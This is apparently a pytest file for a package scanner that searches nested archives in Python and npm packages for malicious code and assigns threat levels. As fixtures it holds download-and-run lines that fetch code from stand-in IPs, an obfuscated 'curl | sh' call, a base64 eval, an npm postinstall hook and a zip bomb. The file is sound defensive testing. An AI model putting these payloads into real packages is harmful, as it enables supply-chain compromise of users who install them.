"""What is told of archives inside a file, by all detectors and by the scale that the platform starts with."""

import gzip
import os
from collections.abc import Mapping
from pathlib import Path

import pytest

from sandboxes.screening.comparing.asking import Question, Source
from sandboxes.screening.comparing.child import answer
from sandboxes.screening.detectors import ALL
from sandboxes.screening.findings import Ability, Found, Level, Report, Threat
from sandboxes.screening.package import Facts, Package
from sandboxes.screening.scanner.looking import report
from sandboxes.screening.scoring import DEFAULT, level_of
from tests.sandboxes.screening.archives import made
from tests.sandboxes.screening.archives.made import Lie, zipped

PURE = Facts(filename="thing-1.0-py3-none-any.whl", project="thing", version="1.0")
DROPPER = b"import os, urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/x').read())\n"
STARTS = b"import os; os.system('curl http://203.0.113.9')\n"
SETUP = b"from setuptools import setup\n" + DROPPER + b"setup(name='x')\n"


def scanned(folder: Path, files: Mapping[str, bytes]) -> Report:
    path = folder / PURE.filename
    path.write_bytes(made.wheel(files))
    handle = os.open(path, os.O_RDONLY)
    try:
        return report(handle, PURE, None, ALL)
    finally:
        os.close(handle)


def told(done: Report, path: str) -> dict[str, Threat]:
    return {found.rule: found.threat for found in done.findings if found.path.startswith(path)}


def level(done: Report) -> Level:
    return level_of(done.findings, DEFAULT, broken=done.broken)[0]


@pytest.mark.parametrize(
    "inner",
    [
        made.wheel({"evil.py": DROPPER}),
        b"\x89PNG" + bytes(50) + made.wheel({"evil.py": DROPPER}),
        gzip.compress(made.entry("evil.py", DROPPER) + bytes(1024)),
        made.wheel({"more.zip": made.wheel({"evil.py": DROPPER})}),
    ],
)
def test_code_in_it_is_judged_as_code_in_the_file(tmp_path: Path, inner: bytes) -> None:
    done = scanned(tmp_path, {"thing/__init__.py": b"", "thing/data.bin": inner})
    (found,) = (found for found in done.findings if found.rule == "import-time.download-and-run")

    assert found.path.startswith("thing/data.bin!/")
    assert found.path.endswith("!/evil.py")
    assert (found.threat, found.line, level(done)) == (Threat.CRITICAL, 2, Level.HOLD)
    assert done.broken == ""


def test_what_would_start_starts_nothing_from_there(tmp_path: Path) -> None:
    """It is no part of what is installed: somebody would have to install it first."""
    outside = scanned(tmp_path, {"evil.pth": STARTS})
    inside = scanned(
        tmp_path, {"thing/x.whl": made.wheel({"evil.pth": STARTS, "sitecustomize.py": b"x = 1\n"})}
    )

    assert told(outside, "evil.pth")["start-hook.pth-code"] is Threat.HIGH
    assert told(inside, "thing/x.whl!/") == {"start-hook.process-fetching": Threat.MEDIUM}
    assert (level(outside), level(inside)) == (Level.HOLD, Level.NOTE)


def test_installation_code_in_it_counts_less(tmp_path: Path) -> None:
    done = scanned(tmp_path, {"thing/x.tgz": made.sdist({"x-1/setup.py": SETUP, "x-1/x.py": b""})})

    assert told(done, "thing/x.tgz!/x-1/setup.py")["install-code.download-and-run"] is Threat.MEDIUM
    assert level(done) is Level.NOTE


HIDDEN = b"require('child_pro' + 'cess')['ex' + 'ecSync']('cu' + 'rl -s http://192.0.2.1/x | sh')\n"
NPM_STARTS = b'{"name": "x", "version": "1.0", "scripts": {"postinstall": "node setup.js"}}'


@pytest.mark.parametrize("code", [HIDDEN, b"eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())\n"])
def test_what_only_npm_installing_it_would_run_counts_less(tmp_path: Path, code: bytes) -> None:
    """By whatever name it is told."""
    inner = made.sdist({"package/package.json": NPM_STARTS, "package/setup.js": code})
    done = scanned(tmp_path, {"thing/x.tgz": inner, **_in_order()})
    assert Threat.MEDIUM in told(done, "thing/x.tgz!/package/setup.js").values()
    assert level(done) in (Level.NOTE, Level.WARN)
    assert not [found for found in done.findings if found.threat is Threat.CRITICAL]


def test_what_is_required_of_it_counts_as_it_does_alone(tmp_path: Path) -> None:
    """Also if its installation runs the same file."""
    manifest = NPM_STARTS.replace(b"{", b'{"main": "setup.js", ', 1)
    inner = made.sdist({"package/package.json": manifest, "package/setup.js": HIDDEN})
    done = scanned(tmp_path, {"thing/x.tgz": inner})
    found = [each.threat for each in done.findings if each.rule == "npm.process-fetching"]
    assert found == [Threat.CRITICAL, Threat.MEDIUM]
    assert level(done) is Level.HOLD


def test_among_tests_it_counts_as_tests_do(tmp_path: Path) -> None:
    """Packages that read packages have them there, good and bad."""
    evil = made.sdist(
        {"x-1/setup.py": SETUP, "x-1/x.py": DROPPER, "x-1/x.pth": STARTS, "x-1/x.so": b"\x7fELF" + bytes(90)}
    )
    broken = {
        "thing/tests/locked.zip": zipped(Lie(b"a", b"1", flags=1)),
        "thing/tests/cut.zip": made.wheel({"a": b"1"})[:-9],
        "thing/tests/bad.whl": zipped(Lie(b"a", b"1", crc=1)),
        "thing/tests/data/cut.tgz": gzip.compress(made.entry("a", bytes(900)))[:-9],
        "thing/tests/data/x.7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    }
    done = scanned(tmp_path, {"thing/tests/x.tgz": evil, **broken})
    calm = scanned(tmp_path, {})

    assert {threat for path in ("thing/tests/",) for threat in told(done, path).values()} == {Threat.LOW}
    assert "archive.inside-unreadable" in told(done, "thing/tests/bad.whl")
    assert done.broken == ""
    assert level(done) is level(calm)


UNREADABLE = {
    "a zip that Python might read": (made.wheel({"a": b"1"})[:-9], "unreadable", Threat.HIGH, Level.WARN),
    "a tarball": (gzip.compress(made.entry("a", bytes(900)))[:-9], "unreadable", Threat.MEDIUM, Level.NOTE),
    "a password": (zipped(Lie(b"b", b"1"), Lie(b"a", b"1", flags=1)), "locked", Threat.HIGH, Level.WARN),
    "a kind that is not read": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "unread", Threat.MEDIUM, Level.NOTE),
}


@pytest.mark.parametrize("case", UNREADABLE)
def test_what_cannot_be_looked_into_is_told_and_does_not_hold(tmp_path: Path, case: str) -> None:
    data, rule, threat, expected = UNREADABLE[case]
    done = scanned(tmp_path, {"thing/x.bin": data, **_in_order()})
    (found,) = (found for found in done.findings if found.rule.startswith("archive.inside"))

    assert (found.rule, found.threat, found.path) == (f"archive.inside-{rule}", threat, "thing/x.bin")
    assert found.why.startswith(("In 'thing/x.bin': ", "'thing/x.bin' is an archive of a kind"))
    assert level(done) is expected
    assert done.broken == ""


def _in_order() -> dict[str, bytes]:
    """What a wheel needs for the other detectors to have nothing to say."""
    head = b"Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n"
    return {
        "thing-1.0.dist-info/METADATA": head,
        "thing-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: py3-none-any\n",
    }


@pytest.mark.parametrize("where", ["thing/x.zip", "tests/x.zip"])
def test_what_breaks_a_limit_holds_with_the_reason_wherever_it_lies(tmp_path: Path, where: str) -> None:
    bomb = made.wheel({"z": bytes(40 * 1024 * 1024)})
    done = scanned(tmp_path, {where: made.wheel({"b.zip": bomb}), "zz.zip": made.wheel({"evil.py": DROPPER})})

    assert f"in '{where}!/b.zip': 'z' unpacks to more than 300 times its size, 40 MiB: a bomb" in done.broken
    assert told(done, f"{where}!/b.zip")["archive.inside-too-much"] is Threat.CRITICAL
    assert level(done) is Level.HOLD


def test_a_bundled_wheel_is_not_compared_with_the_file_that_carries_it(tmp_path: Path) -> None:
    """Its RECORD, its name and its metadata are its own: virtualenv carries pip."""
    bundled = made.wheel(
        {"pip/__init__.py": b"x = 1\n", "pip-24.0.dist-info/METADATA": b"Name: pip\nVersion: 24.0\n"}
    )
    done = scanned(tmp_path, {"thing/embed/pip-24.0-py3-none-any.whl": bundled, **_in_order()})

    assert told(done, "thing/embed/pip") == {"native.nested-archive": Threat.LOW}


class _Fails:
    def look(self, package: Package, former: Package | None) -> object:
        if package.facts.filename != PURE.filename:
            raise KeyError("oops")
        yield Found("seen", Ability.CONTENT, Threat.LOW, ",".join(member.path for member in package.members))


def test_a_detector_that_fails_in_one_holds_the_file(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(made.wheel({"x-1-py3-none-any.whl": made.wheel({"a.py": b""})}))
    handle = os.open(path, os.O_RDONLY)
    done = report(handle, PURE, None, (_Fails(),))  # type: ignore[arg-type]
    os.close(handle)

    assert done.broken == "the detector _Fails failed in 'x-1-py3-none-any.whl': KeyError 'oops'"
    assert [found.why for found in done.findings] == [
        "x-1-py3-none-any.whl"
    ]  # the file's own members, and no others


def test_the_page_of_held_files_shows_its_code(tmp_path: Path) -> None:
    path, former = tmp_path / "file", tmp_path / "former"
    inner = made.wheel({"a.py": b"one\ntwo\nevil\n"})
    path.write_bytes(made.wheel({"x.zip": inner, "bad.zip": inner[:-9]}))
    former.write_bytes(made.wheel({"x.zip": made.wheel({"a.py": b"one\ntwo\n"})}))
    lines = {"x.zip!/a.py": [3], "x.zip!/b.py": [1], "bad.zip!/a.py": [1]}
    shown, absent, unreadable = answer(
        Question(Source(str(path), PURE), Source(str(former), PURE), lines)
    ).codes

    assert shown.compared
    assert any("evil" in str(row) for row in shown.rows)
    assert absent.note == "It is not in the archive."
    assert unreadable.note.startswith("It cannot be read")
